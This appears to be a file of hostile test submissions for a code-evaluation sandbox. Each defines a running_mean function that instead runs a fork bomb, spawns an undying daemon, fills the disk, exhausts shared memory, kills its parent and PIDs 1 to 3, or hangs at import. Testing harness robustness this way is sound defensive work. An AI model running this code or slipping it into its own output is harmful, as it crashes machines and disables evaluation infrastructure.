"""Attempts that exhaust the machine, or whoever waits for an answer."""
import ctypes, itertools, mmap, os, signal, sys, threading, time, torch

# daemon_with_setsid: Leaves a daemon in a session of its own that never ends and hold the connection open.
def running_mean(x):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
    os._exit(3)

# endless_loop_while_importing: Loops for ever while it is imported.
while True:
    time.sleep(0.01)

# fork_bomb: Forks for ever, in every child too.
def running_mean(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)

# full_disk: Fills every place that it may write to, with large files and then with small ones.
def running_mean(x):
    problem = None
    for size in (1 << 16, 1):
        for i in range(1 << 20):
            try:
                with open(f"/tmp/manyheads_hostile_{size}_{i}", "wb") as file:
                    file.write(b"x" * size)
            except OSError as error:
                problem = error
                break
    os.listdir("/tmp")
    raise problem

# stops_and_kills_its_parent: Sends SIGSTOP, SIGTERM and SIGKILL to its parent and its parent's group.
def running_mean(x):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1, 2, 3):
            try:
                os.kill(pid, number)
                os.killpg(pid, number)
            except OSError:
                continue
    raise LookupError

# memory_that_is_shared: Fills memory that processes share, by torch and by mmap.
def running_mean(x):
    held = []
    while True:
        held.append(mmap.mmap(-1, 1 << 24, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
        held[-1].write(b"x" * (1 << 24))

# sleeps_while_importing_each_time: Dies in every call, and sleeps whenever it is imported anew.
time.sleep(0.5)

def running_mean(x):
    os._exit(1)
